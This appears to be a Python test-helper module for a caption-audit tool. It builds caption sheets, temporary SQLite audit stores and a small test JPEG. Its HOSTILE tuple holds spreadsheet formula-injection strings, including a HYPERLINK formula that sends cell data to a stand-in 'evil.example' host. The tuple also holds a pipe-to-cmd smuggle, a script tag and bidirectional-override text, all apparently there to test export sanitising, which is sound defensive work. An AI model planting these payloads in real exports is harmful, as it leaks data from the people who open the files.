"""Small audits of made-up captions, and people who fill in what was exported."""

from __future__ import annotations

import itertools
from collections.abc import Iterable, Sequence
from contextlib import contextmanager
from io import BytesIO
from pathlib import Path
from typing import Any

from PIL import Image as Pillow

from recaption.audit.interchange.items import item_name
from recaption.audit.opening import create_store
from recaption.audit.project import About
from recaption.audit.sheets import Sheet, ShownCaption
from recaption.audit.store import AuditStore
from recaption.audit.types import AuditItem, Settings
from recaption.core.types import Image

HOSTILE = (
    '=HYPERLINK("http://evil.example/?x="&A1,"win")',
    "+1+1",
    "-2+3|cmd",
    "@SUM(A1)",
    "\t=1+1",
    "\r\n=1+1",
    "'=1+1",
    "''quoted",
    "＝1＋1",
    'a; b, c\t"d"\ne',
    '<script>alert(1)</script> & "<View/>"',
    "a\x00b\ud800c\x1b[31m",
    "👩‍🚀 一只猫坐在垫子上。",
    "\u202eevil\u202c",
    "x" * 5_000,
    "   blank around   ",
    "$image {{ caption }}",
)

_numbers = itertools.count()


def sheet(text: str, original: str | None = None, *more: str, image: Image | None = None) -> Sheet:
    captions = [ShownCaption(id="new", text=text, role="subject", origin="model")]
    if original is not None:
        captions.append(ShownCaption(id="old", text=original, role="original", origin="alt"))
    captions += [
        ShownCaption(id=f"c{n}", text=t, role="candidate", origin="model") for n, t in enumerate(more, start=1)
    ]
    return Sheet(captions=tuple(captions), image=image)


@contextmanager
def audit(folder: Path, sheets: Iterable[Sheet], *, keys: Sequence[str] | None = None, overlap=3, **about: Any):
    """Yield a store that holds the sheets."""
    settings = Settings(overlap=overlap, about=About(**about).to_json())
    with create_store(folder / f"audit{next(_numbers)}.sqlite", settings) as store:
        sheets = list(sheets)
        names = keys or [f"key {n}" for n in range(len(sheets))]
        store.add_items(AuditItem(key=k, payload=s.to_payload()) for k, s in zip(names, sheets, strict=True))
        yield store


def captions(*texts: str) -> list[Sheet]:
    return [sheet(text, f"alt of {text}"[:200]) for text in texts]


def picture(colour: str = "red", side: int = 40) -> bytes:
    out = BytesIO()
    exif = Pillow.Exif()
    exif[0x010E] = "taken at home"
    Pillow.new("RGB", (side, side // 2), colour).save(out, "JPEG", exif=exif)
    return out.getvalue()


def standing(store: AuditStore) -> dict[tuple[str, str], tuple[str, str | None]]:
    """Return what stands: action and text by key and auditor."""
    return {(v.key, v.auditor): (v.draft.action, v.draft.text) for v in store.verdicts(standing_only=True)}


def names(store: AuditStore) -> dict[str, str]:
    """Return the keys by the names of items in files."""
    return {item_name(item.key): item.key for item in store.items()}
